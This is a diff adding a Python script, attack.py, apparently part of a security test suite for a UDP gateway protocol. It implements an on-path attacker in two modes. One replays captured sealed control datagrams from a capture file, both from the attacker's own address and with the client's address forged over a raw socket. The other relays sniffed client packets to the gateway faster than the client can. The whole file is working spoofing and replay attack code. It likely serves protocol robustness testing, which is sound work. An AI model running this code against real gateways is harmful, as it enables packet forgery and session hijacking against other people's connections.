@@ -1,0 +1,106 @@
+#!/usr/bin/env python3
+# SPDX-License-Identifier: GPL-2.0
+"""attack.py: somebody who can read the client's network and send from his own.
+
+    attack.py replay TAP FROM TO GATEWAY PORT    sends again the sealed CONTROL
+        datagrams that TAP (see sniff.py --full) shows between two times, from
+        his own address and with the client's as a forged source; says how many
+    attack.py relay GATEWAY PORT    takes such lines from standard input and
+        sends at once what the client sent, from his own address, faster than
+        the client's own network delivers it; says at the end how many
+"""
+import signal
+import socket
+import struct
+import sys
+
+CONTROL, DATA = "5", "4"
+MTU = 1500
+ATTACKER_PORT = 6666
+
+
+def own_socket():
+    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    sock.bind(("", ATTACKER_PORT))
+    return sock
+
+
+def checksum(data):
+    if len(data) % 2:
+        data += b"\0"
+    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    return ~total & 0xFFFF or 0xFFFF
+
+
+def forged(source, destination, payload):
+    """An IPv4 UDP datagram with any source; the kernel fills in the rest."""
+    length = 8 + len(payload)
+    addresses = socket.inet_aton(source[0]) + socket.inet_aton(destination[0])
+    udp = struct.pack("!HHHH", source[1], destination[1], length, 0) + payload
+    pseudo = addresses + struct.pack("!BBH", 0, socket.IPPROTO_UDP, length)
+    udp = udp[:6] + struct.pack("!H", checksum(pseudo + udp)) + udp[8:]
+    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64,
+                       socket.IPPROTO_UDP, 0) + addresses
+    return head + udp
+
+
+def address(text):
+    host, port = text.rsplit(":", 1)
+    return host, int(port)
+
+
+def replay(tap, first, last, gateway):
+    own = own_socket()
+    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    sent = 0
+    with open(tap, encoding="ascii") as lines:
+        for line in lines:
+            word = line.split()
+            if len(word) < 9 or word[4] != CONTROL or \
+               address(word[3]) != gateway or \
+               not int(first) <= int(word[0]) <= int(last):
+                continue
+            payload = bytes.fromhex(word[8])
+            own.sendto(payload, gateway)
+            raw.sendto(forged(address(word[2]), gateway, payload),
+                       (gateway[0], 0))
+            sent += 2
+    print(sent, flush=True)
+
+
+class Enough(Exception):
+    pass
+
+
+def enough(*_):
+    raise Enough
+
+
+def relay(gateway):
+    signal.signal(signal.SIGTERM, enough)
+    own = own_socket()
+    sent = 0
+    try:
+        for line in sys.stdin:
+            word = line.split()
+            if len(word) < 9 or word[4] not in (CONTROL, DATA) or \
+               address(word[3]) != gateway or int(word[6]) > MTU:
+                continue
+            own.sendto(bytes.fromhex(word[8]), gateway)
+            sent += 1
+    except Enough:
+        pass
+    print(sent, flush=True)
+
+
+def main():
+    if sys.argv[1] == "replay":
+        replay(*sys.argv[2:5], (sys.argv[5], int(sys.argv[6])))
+    else:
+        relay((sys.argv[2], int(sys.argv[3])))
+
+
+if __name__ == "__main__":
+    main()
